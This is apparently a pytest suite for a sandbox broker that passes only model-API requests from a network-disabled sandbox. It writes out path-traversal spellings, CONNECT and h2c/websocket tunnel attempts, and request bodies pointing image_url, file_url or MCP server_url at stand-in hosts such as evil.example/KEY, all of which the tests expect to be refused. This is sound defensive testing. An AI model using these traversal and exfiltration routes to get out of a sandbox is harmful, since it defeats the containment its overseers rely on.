"""A plain-HTTP model endpoint behind `network: false` (adversary round 9):
the broker carries the model API's requests and refuses the rest — each
request of a kept-alive connection, whatever its body's framing, however
its path is spelt. Real sockets: the broker's socket, a real HTTP server
as the endpoint (recording what reached it), requests written by hand as a
command in the sandbox could write them. The outside effect asserted: what
reached the endpoint."""

from __future__ import annotations

import gzip
import http.server
import json
import socket
import threading
from pathlib import Path

import pytest

from zapcli.backends.cli_broker import Broker
from zapcli.backends.cli_httpgate import allowed, media_url


class Endpoint:
    """Records (method, path, body) of each request; `/v1/stream` answers
    one event, chunked, and the next two only once `more` is set."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, bytes]] = []
        self.more = threading.Event()
        seen, more = self.seen, self.more

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                if self.headers.get("transfer-encoding", "").lower() == "chunked":
                    body = b""
                    while True:
                        size = int(self.rfile.readline().strip(), 16)
                        chunk = self.rfile.read(size + 2)[:size]
                        if not size:
                            break
                        body += chunk
                else:
                    body = self.rfile.read(int(self.headers.get("content-length") or 0))
                seen.append((self.command, self.path, body))
                if self.path.endswith("/stream"):
                    self.send_response(200)
                    self.send_header("content-type", "text/event-stream")
                    self.send_header("transfer-encoding", "chunked")
                    self.end_headers()
                    for n in range(3):
                        if n:
                            more.wait(30)
                        data = f"data: {n}\n\n".encode()
                        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
                        self.wfile.flush()
                    self.wfile.write(b"0\r\n\r\n")
                    return
                out = b"ok " + self.path.encode()
                self.send_response(200)
                self.send_header("content-length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            do_GET = do_POST = do_PUT = do_DELETE = _any  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def gate(tmp_path: Path):
    model = Endpoint()
    folder = tmp_path / "sockets"
    folder.mkdir()
    broker = Broker(folder)
    paths = {prefix: broker.tcp("127.0.0.1", model.port, prefix) for prefix in ("", "/v1")}
    try:
        yield model, paths
    finally:
        broker.close()
        model.close()


def _connect(path: str) -> socket.socket:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    s.connect(path)
    return s


def _answer(s: socket.socket) -> bytes:
    """One whole answer (by its content-length), or what came before the close."""
    data = b""
    while b"\r\n\r\n" not in data:
        got = s.recv(65536)
        if not got:
            return data
        data += got
    head, _, body = data.partition(b"\r\n\r\n")
    length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                   if line.lower().startswith(b"content-length:")), None)
    while length is not None and len(body) < length:
        got = s.recv(65536)
        if not got:
            break
        body += got
    return head + b"\r\n\r\n" + body


def _post(path: str, body: bytes = b"{}", host: str = "127.0.0.1") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\ncontent-type: application/json\r\n"
            f"content-length: {len(body)}\r\n\r\n").encode() + body


def test_model_calls_pass_on_a_kept_alive_connection_and_its_other_requests_do_not(gate) -> None:
    model, paths = gate
    s = _connect(paths[""])
    s.sendall(_post("/v1/messages", b'{"model":"m"}'))
    assert _answer(s).startswith(b"HTTP/1.1 200")
    chunked = (b"POST /v1/messages?beta=true HTTP/1.1\r\nHost: x\r\ntransfer-encoding: chunked\r\n\r\n"
               b"5\r\n{\"a\":\r\n2\r\n1}\r\n0\r\n\r\n")
    s.sendall(chunked)
    assert _answer(s).startswith(b"HTTP/1.1 200")
    s.sendall(_post("/api/pull", b'{"model":"evil.example/k/KEY"}'))
    refused = _answer(s)
    assert refused.startswith(b"HTTP/1.1 403") and b"not the model API" in refused
    assert s.recv(10) == b""  # and the connection ends
    s.close()
    assert model.seen == [("POST", "/v1/messages", b'{"model":"m"}'),
                          ("POST", "/v1/messages?beta=true", b'{"a":1}')]


@pytest.mark.parametrize("target", [
    "/api/pull", "/v1/../api/pull", "/v1/%2e%2e/api/pull", "/v1/%2E%2E/api/pull", "/v1/.%2e/api/pull",
    "/v1%2f..%2fapi/pull", "/v1\\..\\api/pull", "/v1//api/pull", "/v1/./../api/pull",
    "http://127.0.0.1/api/pull", "http://127.0.0.1/v1/messages", "*", "/v1/x%00", "/v1/..;/api/pull",
    "/v1;x/../api/pull", "/v1/%5c../api/pull", "/v1/x#/../../api/pull"])
def test_no_spelling_of_another_path_reaches_the_endpoint(gate, target: str) -> None:
    model, paths = gate
    for where in paths.values():
        s = _connect(where)
        s.sendall(_post(target))
        said = _answer(s)
        assert said == b"" or said.startswith(b"HTTP/1.1 4"), (target, said)
        s.close()
    assert model.seen == []


def test_a_tunnel_or_a_protocol_switch_is_not_carried(gate) -> None:
    model, paths = gate
    for request in (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
                    b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n",
                    b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
                    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"):
        s = _connect(paths[""])
        s.sendall(request)
        said = _answer(s)
        assert said == b"" or said.startswith(b"HTTP/1.1 4"), (request, said)
        s.close()
    assert model.seen == []


def test_a_base_urls_path_is_the_only_prefix_let_through(gate) -> None:
    model, paths = gate
    s = _connect(paths["/v1"])
    s.sendall(_post("/v1/chat/completions"))
    assert _answer(s).startswith(b"HTTP/1.1 200")
    s.sendall(_post("/v1beta/models/m:generateContent"))  # not under /v1/
    assert _answer(s).startswith(b"HTTP/1.1 403")
    assert [p for _, p, _ in model.seen] == ["/v1/chat/completions"]


def test_a_streamed_answer_comes_through_as_it_is_made(gate) -> None:
    """The first event reaches the CLI while the endpoint holds the rest back
    (a gate that waited for the whole answer would time out here)."""
    model, paths = gate
    s = _connect(paths[""])
    s.sendall(_post("/v1/stream"))
    got = b""
    while b"data: 0" not in got:
        got += s.recv(65536)  # the socket's 10 s timeout fails the test
    assert b"data: 1" not in got
    model.more.set()
    while b"0\r\n\r\n" not in got.split(b"data: 2", 1)[-1]:
        got += s.recv(65536)
    assert b"data: 1" in got and b"data: 2" in got


def test_what_a_path_may_be() -> None:
    assert allowed(b"/v1/messages", "") and allowed(b"/v1beta/models/g:streamGenerateContent?alt=sse", "")
    assert allowed(b"/v1/chat/completions", "/v1") and allowed(b"/openai/v1/responses", "/openai/v1")
    assert not allowed(b"/api/pull", "") and not allowed(b"/slots/0?action=save", "")
    assert not allowed(b"/v1x/messages", "/v1") and not allowed(b"/", "")


def test_a_call_naming_a_url_the_server_would_fetch_is_refused(gate) -> None:
    """vLLM, llama.cpp's server and LiteLLM fetch an `image_url` themselves
    (adversary round 10): a call naming one by URL never reaches the
    endpoint; media inline (`data:`) does, and so does a body that is not
    readable as a model call only when it is: not JSON, or encoded, is refused."""
    model, paths = gate
    image = {"model": "m", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "http://evil.example/KEY.png"}}]}]}
    inline = {"model": "m", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]}
    for body, status in ((image, b"403"), (inline, b"200")):
        s = _connect(paths["/v1"])
        s.sendall(_post("/v1/chat/completions", json.dumps(body).encode()))
        assert _answer(s).startswith(b"HTTP/1.1 " + status), body
        s.close()
    for request in (_post("/v1/chat/completions", b"model=m&url=http://evil.example/KEY"),
                    _post("/v1/chat/completions", gzip.compress(json.dumps(image).encode())).replace(
                        b"content-type", b"content-encoding: gzip\r\ncontent-type")):
        s = _connect(paths["/v1"])
        s.sendall(request)
        assert _answer(s).startswith(b"HTTP/1.1 403"), request[:80]
        s.close()
    assert [json.loads(b) for _, _, b in model.seen] == [inline]


def test_what_a_model_call_may_name() -> None:
    url = "https://evil.example/KEY"
    fetched = [
        {"messages": [{"content": [{"type": "image_url", "image_url": {"url": url}}]}]},  # OpenAI chat
        {"input": [{"content": [{"type": "input_image", "image_url": url}]}]},  # Responses API
        {"input": [{"content": [{"type": "input_file", "file_url": url}]}]},
        {"messages": [{"content": [{"type": "video_url", "video_url": {"url": url}}]}]},  # vLLM
        {"messages": [{"content": [{"type": "image", "source": {"type": "url", "url": url}}]}]},  # Anthropic
        {"contents": [{"parts": [{"fileData": {"fileUri": url, "mimeType": "image/png"}}]}]},  # Gemini
        {"tools": [{"type": "mcp", "server_label": "x", "server_url": url}]},  # a remote MCP server
    ]
    for doc in fetched:
        assert media_url(doc) == url, doc
    kept = [
        {"messages": [{"role": "user", "content": f"read {url} and say what it holds"}]},
        {"messages": [{"content": [{"type": "web_search_result", "url": url, "title": "t"}]}]},
        {"tools": [{"name": "fetch", "input_schema": {"properties": {"url": {"type": "string"}}}}]},
        {"messages": [{"content": [{"type": "image_url", "image_url": {"url": "DATA:image/png;base64,AA"}}]}]},
    ]
    for doc in kept:
        assert media_url(doc) is None, doc
